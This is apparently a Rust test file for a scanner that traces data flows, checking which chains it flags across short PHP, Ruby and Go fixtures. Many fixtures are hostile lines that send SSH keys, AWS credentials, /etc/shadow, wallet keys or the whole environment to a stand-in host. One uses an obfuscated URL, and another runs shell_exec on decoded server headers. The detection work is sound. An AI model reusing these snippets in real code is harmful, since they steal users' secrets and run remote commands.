//! Ruby, PHP and Go: what is gone through in a loop, what a server answered, and what callers hand over.

mod support;

use support::{assert_chains, chains, facts};

#[test]
fn the_secret_file_of_a_list_is_read() {
    assert_chains(
        "src/a.php",
        &[
            (
                "<?php class W { private $t = [104, 116, 116, 112, 115, 58, 47, 47, 120, 46, 101, 120, 97, 109, 112, 108, 101, 47, 119]; function begin($d) { $b = [];\n\
                 foreach ([$d . '/composer.json', getenv('HOME') . '/.ssh/id_rsa'] as $f) { if (is_readable($f)) { $b[$f] = base64_encode(file_get_contents($f)); } }\n\
                 $c = stream_context_create(['http' => ['method' => 'POST', 'content' => serialize($b)]]); @file_get_contents(implode('', array_map('chr', $this->t)), false, $c); } }",
                &["file.read > encode.text > encode.object > network.http"][..],
            ),
            (
                "<?php foreach (['a' => '/etc/shadow'] as $k => $f) { $x = file_get_contents($f); } file_get_contents('https://x.example.invalid/?' . urlencode($x));",
                &["file.read > encode.text > network.http"],
            ),
            // what is written out says nothing about anybody
            (
                "<?php foreach (['a.css', 'b.css'] as $f) { $all .= md5_file($f); } echo $all;",
                &[],
            ),
        ],
    );
    let read = |path: &str, text: &str| {
        let facts = facts(path, text);
        facts
            .flows
            .iter()
            .filter_map(|f| f.steps.first()?.constant.as_deref().map(str::to_owned))
            .collect::<Vec<_>>()
    };
    assert_eq!(
        read(
            "lib/a.rb",
            "require 'net/http'\n[\"notes\", \"#{Dir.home}/.aws/credentials\"].each { |f| Net::HTTP.post(URI('https://x.example.invalid/'), File.read(f)) }"
        ),
        ["*/.aws/credentials"]
    );
    assert_eq!(
        read(
            "a.go",
            "package a\nimport (\"net/http\"; \"os\"; \"bytes\")\nfunc Go() { for _, f := range []string{\"a.txt\", \"/root/.ssh/id_rsa\"} { b, _ := os.ReadFile(f); http.Post(\"https://x.example.invalid/\", \"\", bytes.NewReader(b)) } }"
        ),
        ["/root/.ssh/id_rsa"]
    );
}

#[test]
fn what_a_server_answered_is_from_outside() {
    assert_chains(
        "src/a.php",
        &[
            (
                "<?php file_get_contents('https://x.example.invalid/'); foreach ($http_response_header ?? [] as $h) { $f = 'shell' . '_exec'; @$f(base64_decode(substr($h, 8))); }",
                &["network.http > decode.text > process.shell"][..],
            ),
            (
                "<?php file_get_contents('https://x.example.invalid/'); foreach ($http_response_header as $h) { if (strpos($h, 'HTTP/') === 0) { echo $h; } }",
                &[],
            ),
        ],
    );
}

#[test]
fn all_variables_are_read_without_a_name() {
    assert_chains(
        "src/a.php",
        &[
            (
                "<?php mail('a@x.example.invalid', 's', json_encode(getenv()));",
                &["environment.read-all > encode.object > network.mail"][..],
            ),
            (
                "<?php mail('a@x.example.invalid', 's', getenv('HOME'));",
                &[],
            ),
        ],
    );
}

#[test]
fn keys_of_wallets_are_secrets_of_callers_and_passwords_are_for_signing_in() {
    let cases = [
        (
            "lib/a.rb",
            "require 'net/http'\ndef sign(tx, private_key)\n  Net::HTTP.post(URI('https://x.example.invalid/'), private_key.to_s)\n  tx\nend",
            true,
        ),
        (
            "src/a.php",
            "<?php class K { function restore($mnemonic, $path) { file_get_contents('https://x.example.invalid/?k=' . $mnemonic); } }",
            true,
        ),
        (
            "lib/a.rb",
            "require 'net/http'\ndef sign_in(user, password)\n  Net::HTTP.post(URI('https://x.example.invalid/'), password)\nend",
            false,
        ),
        // a key that the file itself makes
        (
            "lib/a.rb",
            "require 'net/http'\ndef sign(private_key)\n  Net::HTTP.post(URI('https://x.example.invalid/'), private_key)\nend\nsign('test')",
            false,
        ),
    ];
    for (path, text, expected) in cases {
        let found = chains(&facts(path, text));
        let secret = found.iter().any(|c| c.starts_with("credential.parameter"));
        assert_eq!(secret, expected, "{text}\n{found:?}");
    }
}
